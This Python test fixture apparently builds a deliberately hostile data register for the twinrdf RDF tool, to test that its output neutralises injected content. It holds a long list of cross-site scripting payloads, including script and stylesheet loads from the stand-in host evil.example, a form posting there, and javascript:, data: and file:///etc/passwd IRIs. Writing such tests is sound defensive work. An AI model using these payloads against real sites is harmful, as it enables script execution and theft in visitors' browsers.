"""A register whose every name, title, quote and IRI tries to run in the browser of who reads it."""

import csv
import io
import json
import shutil
from pathlib import Path

from tests.registers import write_register

from twinrdf.pipeline import build
from twinrdf.release import MANIFEST, Release, hash_file, list_files
from twinrdf.store import write_store

PAYLOADS = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<script>alert(1)//",
    "<<script>alert(1)//<</script>",
    "<!--<script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    "</option></select><img src=x onerror=alert(1)>",
    "</svg><script>alert(1)</script>",
    "</desc><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    '<img src="x" onerror="alert(1)" alt="',
    "<img/src=`x`onerror=alert(1)>",
    "<image href=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text y=20>x</text></a>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mtext><style><img src onerror=alert(1)></style>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0,url=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example/><button autofocus>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=jAvAsCrIpT:alert(1) id=x>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<x onclick=alert(1) tabindex=1 autofocus onfocus=alert(1)>x</x>",
    "\" onmouseover=\"alert(1)\" x=\"",
    "' onmouseover='alert(1)' x='",
    "\"><svg onload=alert(1)>",
    "'><svg onload=alert(1)>",
    "\" autofocus onfocus=alert(1) x=\"",
    "`${alert(1)}`",
    "${alert(1)}",
    "{{ 7 * 7 }}{% include 'base.html' %}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "javascript:alert(1)",
    "__proto__",
]  # fmt: skip

IRIS = [
    "javascript:alert(document.domain)",
    "JAVASCRIPT:alert(1)",
    "data:text/html,%3Cscript%3Ealert(1)%3C/script%3E",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    "https://evil.example/'onmouseover='alert(1)",
    "mailto:x@evil.example",
]

_SAYS = "https://w3id.org/twinrdf/ns#"


def build_hostile(folder: Path) -> Release:
    """Build a release of the hostile register, then put in what no build would let pass."""
    project = write_register(folder / "register", **_tables())
    release = build(project, folder / "releases")
    _add_quads(release)
    return release


def _tables() -> dict[str, str]:
    size = len(PAYLOADS)

    def word(number: int) -> str:
        return PAYLOADS[number % size]

    places = [f"place-{number}" for number in range(size)]
    pairs = list(zip(places[::2], places[1::2], strict=True))
    ties = [f"{a}--{b}" for a, b in pairs]

    def rows(count: int, first: int = 0, **columns: object) -> str:
        """Write as many rows; a column is a text, or makes one of the row's number.

        Their names are the payloads from the first on.
        """
        columns = {
            "id": lambda n: f"thing-{n}",
            "source": "wire",
            "label@en": lambda n: word(n + first),
            **columns,
            "quote@en": lambda n: word(n + first + 1),
            "description@en": lambda n: word(n + first + 2),
            "editorialNote@en": lambda n: word(n + first + 3),
        }
        buffer = io.StringIO()
        writer = csv.DictWriter(buffer, list(columns), lineterminator="\n")
        writer.writeheader()
        for number in range(count):
            writer.writerow({k: v(number) if callable(v) else v for k, v in columns.items()})
        return buffer.getvalue()

    return {
        "sources": "id,label@en,description@en,issued,rank\n"
        f'wire,"{PAYLOADS[0]}","{PAYLOADS[16]}",2019-06,1\n'
        f'other,"{PAYLOADS[1]}","{PAYLOADS[17]}",2020,2\n',
        "territories": rows(
            size,
            **{
                "id": lambda n: places[n],
                "type": "City",
                "label@zh": lambda n: word(n + 3),
                "altLabel@en": lambda n: word(n + 4).replace(";", ","),
                "lat": lambda n: 40 + n % 10,
                "long": lambda n: n,
            },
        ),
        "partnerships": rows(  # the other source contradicts the first about some
            len(pairs) + 3,
            **{
                "id": lambda n: ties[n % len(pairs)],
                "label@en": lambda n: word(n % len(pairs)),
                "source": lambda n: "wire" if n < len(pairs) else "other",
                "party": lambda n: ";".join(pairs[n % len(pairs)]),
                "partnershipKind": "unspecified",
                "start": lambda n: 1950 + n,
                "statedKind@en": lambda n: word(n + 30).replace(";", ","),
            },
        ),
        "agreements": rows(
            len(pairs),
            **{
                "agreementKind": "unspecified",
                "party": lambda n: ";".join(pairs[n]),
                "establishes": lambda n: ties[n],
                "signed": lambda n: 1950 + n,
                "statedKind@en": lambda n: word(n + 5).replace(";", ","),
            },
        ),
        "organizations": rows(
            12, id=lambda n: f"body-{n}", organizationType="company", location=lambda n: places[n]
        ),
        "statements": rows(
            12, 12, **{"about": lambda n: places[n], "text@en": lambda n: word(n + 7)}
        ),
        "areas": rows(12, 24, areaOf=lambda n: ties[n], areaNumber=lambda n: n + 1, domain="trade"),
        "events": rows(
            12,
            36,
            **{
                "eventType": "festival",
                "start": lambda n: 2001 + n,
                "location": lambda n: places[n],
                "about": lambda n: ties[n],
                "host": lambda n: f"body-{n}",
                "venue@en": lambda n: word(n + 8),
                "theme@en": lambda n: word(n + 20),
            },
        ),
        "figures": rows(
            12,
            48,
            **{
                "about": lambda n: places[n],
                "indicator": "area",
                "value": lambda n: n + 1,
                "unit": "cities",
                "qualifier": "exact",
                "asOf": 2020,
                "scope@en": lambda n: word(n + 32),
            },
        ),
        "offices": rows(
            12,
            6,
            **{
                "role@en": lambda n: word(n + 56),
                "officeType": "public-office",
                "officeAt": lambda n: f"body-{n}",
                "asOf": 2020,
            },
        ),
    }


def _add_quads(release: Release) -> None:
    base, wire = release.base, f"<{release.base}id/source/wire>"
    lines = []
    for number, iri in enumerate(IRIS):
        for thing in ("territory/place-0", f"territory/place-{number}", "source/wire"):
            for name in ("https://schema.org/url", "https://schema.org/sameAs", iri):
                lines += [f"<{base}id/{thing}> <{name}> <{iri}> {graph}." for graph in ("", wire)]
        lines.append(f"<{base}id/partnership/place-0--place-1> <{_SAYS}party> <{iri}> .")
    for number in range(12):
        office, name = f"<{base}id/office/thing-{number}>", json.dumps(PAYLOADS[40 + number])
        lines += [f"{office} <{_SAYS}holder> {name} {graph}." for graph in ("", wire)]
    lines.append(
        f"<{base}id/territory/gone> <http://purl.org/dc/terms/isReplacedBy> "
        f"<{base}id/territory/place-0> ."
    )
    path = release.path
    dump = path / "dumps" / "everything.nq"
    text = dump.read_text(encoding="utf-8") + "".join(f"{line}\n" for line in lines)
    shutil.rmtree(release.store)
    for file in (dump, path / MANIFEST):
        file.unlink()
    dump.write_text(text, encoding="utf-8")
    write_store(dump, release.store)
    hashes = [f"{hash_file(path / name)}  {name}\n" for name in list_files(path)]
    (path / MANIFEST).write_text("".join(hashes), encoding="utf-8")
